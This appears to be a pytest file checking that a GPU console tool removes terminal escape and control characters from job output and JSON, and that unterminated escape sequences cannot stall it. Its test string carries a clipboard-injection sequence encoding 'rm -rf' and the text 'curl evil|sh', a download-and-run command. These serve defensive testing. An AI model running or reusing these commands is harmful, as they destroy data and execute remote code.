"""H2 and M3: text from outside neither controls the terminal nor freezes the console."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gpuconsole.cli.headless import ProgressLines
from gpuconsole.cli.output import to_json
from gpuconsole.engine.children.terminal.lines import OutputLines
from tests.engine.children.test_job_ranks import AGENT

EVIL = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[31mrun: curl evil|sh\u202e\x9b31m"


def test_a_line_of_progress_has_no_control_characters() -> None:
    stream = io.StringIO()
    ProgressLines(stream).line(f"the sampler ended (exit 1): {EVIL}")
    assert stream.getvalue().removesuffix("\n").isprintable()
    assert "run: curl evil|sh" in stream.getvalue()


def test_what_a_job_says_of_itself_reaches_the_terminal_as_text(tmp_path: Path) -> None:
    """A process of the job tells why its agent is off, in words of its own."""
    off = f"line = agent(0, 1, os.getpid()); send = line.sendall; cause = {EVIL!r}\n"
    off += (
        'send(json.dumps({"event": "agentoff", "t": 2.0, "pid": 7, "rank": 0, "where": cause,'
        ' "cause": cause}).encode() + b"\\n"); time.sleep(0.5)'
    )
    (tmp_path / "job.py").write_text(AGENT + off)
    words = [
        sys.executable,
        "-m",
        "gpuconsole",
        "run",
        "--headless",
        "--",
        sys.executable,
        "job.py",
    ]
    done = subprocess.run(words, cwd=tmp_path, capture_output=True, timeout=60, check=False)
    said = done.stderr.decode()
    assert "run: curl evil|sh" in said, said
    assert all(character.isprintable() or character == "\n" for character in said)


@pytest.mark.parametrize(
    "begin", [b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b]a", b"\x1b[", b"\x1b]" + b"x" * 100]
)
def test_sequences_that_never_end_take_time_in_proportion_to_their_length(begin: bytes) -> None:
    """64 KB of `ESC ]` took 15 s in the event loop of the console."""
    lines, data = OutputLines(), begin * (65536 // len(begin))
    begun = time.thread_time()
    lines.feed(data)
    assert time.thread_time() - begun < 1.5


def test_titles_and_links_are_still_left_out() -> None:
    lines = OutputLines()
    lines.feed(b"a\x1b]0;title\x07b\x1b]8;;https://example.org\x1b\\c\x1b]8;;\x1b\\d")
    assert lines[0] == "abcd"


@pytest.mark.parametrize(
    "char", ["\x9b", "\x7f", "\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041"]
)
def test_json_on_stdout_has_no_character_that_controls_a_terminal(char: str) -> None:
    data = {"text": f"a{char}b", "plain": "ü 漢 🙂"}
    written = to_json(data)
    assert json.loads(written) == data and char not in written
    assert "ü 漢 🙂" in written
